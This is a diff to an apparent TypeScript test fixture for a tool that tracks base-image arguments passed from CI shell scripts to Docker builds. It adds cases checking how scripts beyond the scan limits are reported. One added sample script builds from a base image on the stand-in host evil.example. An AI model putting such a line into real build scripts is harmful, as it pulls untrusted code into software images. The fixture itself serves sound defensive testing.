@@ -34,6 +34,39 @@ const COMPOSED =
 const NAMELESS = 'ARG BASE\nFROM $BASE\n';
 const makefile: Make = (base) => `BASE ?= ${base}\nimage:\n\tdocker build --build-arg BASE=$(BASE) api\n`;
 
+const LAST = '#!/bin/sh\nB=evil.example\ndocker build --build-arg BASE=$B/x:1 api\n';
+const ALL = flow('run: for f in ci/*.sh; do bash $f; done');
+/** More scripts than one path means. */
+const MANY = Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`ci/${10 + at}.sh`, `echo ${at}\n`]));
+/** Scripts that run one another. */
+const CHAIN = Object.fromEntries(
+  Array.from({ length: 13 }, (_, at) => [`s${at}.sh`, `#!/bin/sh\n./s${at + 1}.sh\n`]),
+);
+const told = (
+  name: string,
+  base: Readonly<Record<string, string>>,
+  change: BuildChangeRow['change'],
+  noted: readonly string[],
+): BuildChangeRow => ({ name, base: { 'api/Dockerfile': ARG, ...base }, change, found: [], noted });
+
+/** What is said of scripts that are not looked through, each time that one of them changes. */
+const LIMIT_CHANGES: readonly BuildChangeRow[] = [
+  told('more scripts than one path means', { ...MANY }, { [FLOW]: ALL }, [FLOW]),
+  told('another one of them', { [FLOW]: ALL, ...MANY }, { 'ci/z.sh': LAST }, [FLOW]),
+  told('another one before them', { [FLOW]: ALL, ...MANY }, { 'ci/1.sh': 'echo\n' }, [FLOW]),
+  told('a change of one that is not looked through', { [FLOW]: ALL, ...MANY }, { 'ci/49.sh': LAST }, [FLOW]),
+  told('a change of one that is', { [FLOW]: ALL, ...MANY }, { 'ci/10.sh': 'echo\n' }, []),
+  told('scripts that run one another, too deep', CHAIN, { [FLOW]: flow('run: ./s0.sh'), 's13.sh': LAST }, [
+    's9.sh',
+  ]),
+  told(
+    'a change at their end',
+    { [FLOW]: flow('run: ./s0.sh'), ...CHAIN, 's13.sh': 'x\n' },
+    { 's13.sh': LAST },
+    ['s9.sh'],
+  ),
+];
+
 /** What the scripts of a repository give the builds that they start. */
 export const HANDED_VALUE_CHANGES: readonly BuildChangeRow[] = [
   row('an argument in a script that a step runs', 'ci/build.sh', build),
@@ -617,4 +650,5 @@ export const HANDED_VALUE_CHANGES: readonly BuildChangeRow[] = [
     'b.sh',
     (base) => `image() {\n  docker build -t "$1" --build-arg BASE="$2" api\n}\nimage ${base} ${GOOD}\n`,
   ),
+  ...LIMIT_CHANGES,
 ];
